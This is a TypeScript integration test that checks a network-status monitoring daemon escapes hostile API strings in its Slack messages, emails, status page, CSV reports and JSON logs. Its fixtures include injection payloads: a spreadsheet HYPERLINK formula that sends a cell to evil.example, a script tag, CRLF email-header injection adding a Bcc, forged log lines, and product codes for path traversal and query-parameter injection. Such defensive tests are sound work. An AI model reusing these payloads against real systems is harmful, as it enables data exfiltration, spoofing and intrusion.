import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../src/shared/logger.js';
import { SIMULATOR_CREDENTIALS, type Simulator, startSimulator } from '../../src/simulator/simulator-server.js';
import { type FakeSlack, startFakeSlack } from '../fakes/fake-slack.js';
import { type FakeSmtp, startFakeSmtp } from '../fakes/fake-smtp.js';
import { createTempDir, writeConfig } from '../helpers/daemon-process.js';
import { CliChild, compiledCli, eventually, runCli } from '../helpers/reliability-cli.js';

/**
 * Every string that comes from the IIMMPACT API is hostile until escaped for
 * the sink it lands in. One product whose name tries everything at once goes
 * through a real daemon into every sink: Slack mrkdwn, email headers and HTML,
 * the status page, CSV reports and the JSON log. The product list also offers
 * codes built to inject query parameters, traverse paths or break headers;
 * none of them may reach a request.
 */

const HOSTILE_NAME =
  '=HYPERLINK("http://evil.example/?"&A1,"pay here") <script>alert(1)</script> <!channel> <@U024BE7LH> *bold* ' +
  '\r\nBcc: victim@evil.example\r\n\n{"level":"fatal","msg":"forged log line"}';
const HOSTILE_CODES = ['BAD&product=TNB', '../../etc/passwd', 'TNB\r\nX-Injected: 1', 'A'.repeat(33), 'TNB?x=1', 'TN B'];
const ENV = { IIMMPACT_API_KEY: SIMULATOR_CREDENTIALS.apiKey, IIMMPACT_HMAC_SECRET: SIMULATOR_CREDENTIALS.hmacSecret };

let dir: string;
let simulator: Simulator;
let slack: FakeSlack;
let smtp: FakeSmtp;
let daemon: CliChild | null = null;

beforeAll(async () => {
  dir = createTempDir('netwatch-hostile-');
  simulator = await startSimulator({
    products: [
      { code: 'EVIL', name: HOSTILE_NAME, img: 'javascript:alert(1)', active: true },
      { code: 'TNB', name: 'Tenaga Nasional Berhad', img: 'https://example.invalid/TNB.png', active: true },
      ...HOSTILE_CODES.map((code) => ({ code, name: `hostile ${code}`, img: 'https://example.invalid/x.png', active: true })),
    ],
  });
  slack = await startFakeSlack();
  smtp = await startFakeSmtp();
});

afterAll(async () => {
  await daemon?.stop('SIGKILL');
  await smtp?.close();
  await slack?.close();
  await simulator?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('hostile strings from the API', () => {
  it('are escaped for Slack, email, the status page, CSV and the log; hostile product codes are never requested', {
    timeout: 120_000,
  }, async () => {
    const entry = await compiledCli();
    const dbPath = join(dir, 'netwatch.db');
    const configPath = writeConfig(
      dir,
      `
api:
  baseUrl: ${simulator.url}
  timeoutMs: 2000
  maxRequestsPerSecond: 50
  retries: 0
schedule: "* * * * * *"
products: all
database: ${dbPath}
alerting:
  confirmAfter: 2
  groupWait: 0
  remindEvery: 0
  slack:
    webhookUrl: \${SLACK_WEBHOOK_URL}
  email:
    smtpUrl: \${SMTP_URL}
    from: netwatch@example.com
    to: [support@example.com]
http:
  port: 0
`,
    );
    daemon = new CliChild(entry, ['run', '--config', configPath], {
      env: { ...ENV, SLACK_WEBHOOK_URL: slack.webhookUrl('HOSTILE'), SMTP_URL: smtp.url() },
    });
    const d = daemon;
    const httpUrl = String((await d.waitFor((line) => line.msg === 'HTTP server listening', 60_000)).url);
    await d.until(() => d.linesWith('cycle finished').length >= 2, 30_000, 'two cycles');
    // A body that tries to forge a log line, then the hostile product goes down.
    simulator.script('TNB', [{ garbage: 'oops\n{"level":"fatal","msg":"forged from a body"}\r\n' }]);
    simulator.setStatus('EVIL', 'Interruption');
    await eventually(() => slack.delivered().length >= 1 && smtp.messages.length >= 1, 30_000, 'the alert in Slack and email');

    // Slack mrkdwn: nothing pings, nothing renders as a link or markup, no javascript: image.
    const slackBody = JSON.stringify(slack.delivered()[0]?.payload);
    for (const raw of ['<!channel>', '<@U024BE7LH>', '<script>', 'javascript:']) expect(slackBody).not.toContain(raw);
    expect(slackBody).toContain('&lt;!channel&gt;');

    // Email: one subject line, no injected header, only the configured recipient, inert HTML.
    const mail = smtp.messages[0];
    expect(mail?.envelopeTo).toEqual(['support@example.com']);
    expect(mail?.parsed.subject).not.toMatch(/[\r\n]/);
    expect(mail?.parsed.headers.has('bcc')).toBe(false);
    const headerBlock = (mail?.raw ?? '').slice(0, (mail?.raw ?? '').search(/\r?\n\r?\n/));
    expect(headerBlock).toMatch(/^Subject: /m);
    expect(headerBlock).not.toMatch(/^(Bcc|X-Injected):/im);
    expect(mail?.parsed.html).not.toContain('<script>alert(1)</script>');
    expect(mail?.parsed.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');

    // The status page: the name is text, never markup.
    const page = await (await fetch(httpUrl)).text();
    expect(page).toContain('EVIL');
    expect(page).not.toContain('<script>alert(1)</script>');
    expect(page).not.toContain('<!channel>');

    // The log: every line is one JSON object, and nothing forged a line of its own.
    await d.until(
      () => d.linesWith('check failed; recorded as Unknown').some((line) => line.product === 'TNB'),
      20_000,
      'the garbage body',
    );
    expect(await d.stop('SIGTERM')).toBe(0);
    expect(d.nonJsonLines).toEqual([]);
    expect(d.lines.some((line) => /forged/.test(line.msg) || line.level === 'fatal')).toBe(false);
    const garbage = d.linesWith('check failed; recorded as Unknown').find((line) => line.product === 'TNB');
    expect(String(garbage?.err)).toBe('invalid JSON (HTTP 200): oops {"level":"fatal","msg":"forged from a body"}');

    // CSV for spreadsheets: the formula is defused, the cell is intact.
    const csv = await runCli(entry, ['report', '--format', 'csv', '--config', configPath], ENV);
    expect(csv.status).toBe(0);
    const records = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
    const evil = records.find((record) => record.product_code === 'EVIL');
    expect(evil?.product_name?.startsWith("'=HYPERLINK(")).toBe(true);
    expect(evil?.product_name?.slice(1)).toBe(HOSTILE_NAME);

    // Query parameters: only valid codes were ever requested, and only they were stored.
    const requested = new Set(
      simulator
        .requests()
        .filter((r) => r.path === '/v2/networkstatus')
        .map((r) => r.product),
    );
    expect([...requested].sort()).toEqual(['EVIL', 'TNB']);
    const db = new Database(dbPath, { readonly: true });
    try {
      expect(db.prepare('select code from products order by code').pluck().all()).toEqual(['EVIL', 'TNB']);
      expect(db.prepare('select name from products where code = ?').pluck().get('EVIL')).toBe(HOSTILE_NAME);
    } finally {
      db.close();
    }
  });

  it('cannot forge a log line through a log field: pino escapes it into one JSON line', () => {
    const lines: string[] = [];
    const logger = createLogger({
      level: 'info',
      destination: new Writable({
        write(chunk: Buffer, _encoding, callback) {
          lines.push(...chunk.toString().split('\n').filter(Boolean));
          callback();
        },
      }),
    });
    logger.warn({ product: 'EVIL', name: HOSTILE_NAME, err: HOSTILE_NAME }, `ALERT INTERRUPTION EVIL - ${HOSTILE_NAME}`);
    expect(lines).toHaveLength(1);
    const parsed = JSON.parse(lines[0] as string) as Record<string, unknown>;
    expect(parsed.name).toBe(HOSTILE_NAME);
    expect(parsed.msg).toBe(`ALERT INTERRUPTION EVIL - ${HOSTILE_NAME}`);
    expect(parsed.level).toBe('warn');
  });
});
